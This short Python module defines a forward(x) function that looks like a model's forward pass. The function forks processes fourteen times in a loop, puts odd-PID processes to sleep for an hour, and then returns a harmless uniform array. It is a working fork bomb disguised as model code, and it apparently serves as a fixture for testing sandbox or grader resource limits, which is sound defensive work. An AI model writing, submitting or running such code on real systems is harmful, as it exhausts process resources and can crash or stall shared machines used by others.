"""Starts processes that start processes."""

import os
import time

import numpy as np


def forward(x):
    for _ in range(14):
        try:
            os.fork()
        except OSError:
            time.sleep(0.1)
    if os.getpid() % 2:
        time.sleep(3600)
    return np.full_like(x, 1 / x.shape[-1])
